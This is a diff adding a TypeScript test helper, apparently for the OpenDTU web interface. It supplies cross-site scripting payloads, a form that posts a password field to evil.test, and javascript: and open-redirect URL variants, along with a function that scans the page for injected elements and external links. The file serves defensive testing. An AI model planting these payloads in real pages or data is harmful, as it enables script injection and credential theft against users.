@@ -1,0 +1,72 @@
+/** What somebody may put where a text belongs. */
+export const attacks = {
+  script: '<script>attacked=1</script>',
+  picture: '<img src=x onerror="attacked=1">',
+  escape: `"'\`--></textarea></option></title><svg/onload="attacked=1">`,
+  frame: '<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>',
+  link: '<a href="javascript:attacked=1" target=_top>words</a>',
+  form: '<form action="https://evil.test"><input name=password></form>',
+  style: '<style>*{display:none}</style><base href="//evil.test/">',
+  template: '{{constructor.constructor("attacked=1")()}} {n} | @:base.Yes',
+} as const
+
+/** All of them in one text. */
+export const everyAttack = Object.values(attacks).join(' ')
+
+/** What somebody may put where an address belongs. */
+export const addresses = [
+  'javascript:attacked=1',
+  ' JaVaScript:attacked=1',
+  'java\tscript:attacked=1',
+  'data:text/html,<script>attacked=1</script>',
+  'vbscript:attacked=1',
+  '//evil.test/x',
+  '/\\evil.test',
+  '\\\\evil.test',
+  'https:evil.test',
+  '/%2f/evil.test',
+  '/.//evil.test',
+  '/%5cevil.test',
+  '@evil.test/',
+  '../../../../evil.test',
+  'https://evil.test/',
+] as const
+
+/** `document` with the texts in turn, and a number, in the place of each of its own, but for members of these names. */
+export function poisoned(document: unknown, texts: readonly string[], spared: readonly string[] = []) {
+  let count = 0
+  const change = (value: unknown): unknown => {
+    if (typeof value === 'string') return `${texts[count % texts.length]}#${++count}`
+    if (typeof value !== 'object' || value === null) return value
+    if (Array.isArray(value)) return value.map(change)
+    return Object.fromEntries(
+      Object.entries(value).map(([name, each]) => [name, spared.includes(name) ? each : change(each)]),
+    )
+  }
+  return change(document)
+}
+
+/**
+ * What stands on the page that the app does not put there: elements, attributes, and links to places other than its own
+ * paths and its project's page. A link elsewhere counts unless it is in `allowed`. Also runs in a browser, so it needs nothing from
+ * outside.
+ */
+export function foreignNodes(allowed: readonly string[] = []): string[] {
+  const tags =
+    'div p span button label h1 h2 h3 section main header nav ul li dl dt dd table thead tbody tr th td form fieldset legend ' +
+    'input select option textarea progress details summary dialog pre code mark small strong b i em sub br a svg path time'
+  const known = new Set(tags.split(' '))
+  const odd = /^(on|srcdoc$|src$|action$|formaction$|background$|data$|ping$|xlink)/
+  const found: string[] = Reflect.get(globalThis, 'attacked') ? ['a script ran'] : []
+  for (const element of document.querySelectorAll('body *')) {
+    const { localName } = element
+    if (!known.has(localName)) found.push(`<${localName}>`)
+    for (const { name } of element.attributes) if (odd.test(name)) found.push(`<${localName} ${name}>`)
+    const href = element.getAttribute('href')
+    if (href === null || allowed.includes(href)) continue
+    const project = `${href}/`.startsWith('https://github.com/tbnobody/OpenDTU/')
+    if (!project && !/^\/(?![/\\])/.test(href)) found.push(`a link to ${href}`)
+    if (!project && new URL(href, location.origin).origin !== location.origin) found.push(`a link out to ${href}`)
+  }
+  return found
+}
